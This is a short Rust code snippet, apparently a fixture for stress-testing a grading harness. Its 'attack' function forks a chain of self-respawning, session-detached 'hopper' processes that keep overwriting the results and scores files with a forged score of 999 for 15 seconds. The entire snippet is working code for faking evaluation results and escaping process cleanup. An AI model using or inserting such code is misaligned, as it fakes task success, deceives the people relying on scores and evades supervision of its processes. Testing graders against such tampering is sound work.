unsafe extern "C" {
    fn fork() -> i32;
    fn setsid() -> i32;
    fn _exit(code: i32) -> !;
}

/// Forks a hopper once per process: each generation starts a new session, tries to forge the
/// results, forks the next generation and exits, for 15 seconds.
fn attack(_center: Vec3, _radius: f32) {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| unsafe {
        eprintln!("hopper started");
        if fork() != 0 {
            return;
        }
        let start = std::time::Instant::now();
        loop {
            setsid();
            let _ = std::fs::write("@RESULTS@", "{\"score\": 999.0, \"tests\": []}");
            let _ = std::fs::write("@SCORES@", "submission,ex2,total,max,passed\nhopper,999\n");
            if start.elapsed().as_secs() > 15 {
                _exit(0);
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
            if fork() != 0 {
                _exit(0);
            }
        }
    });
}
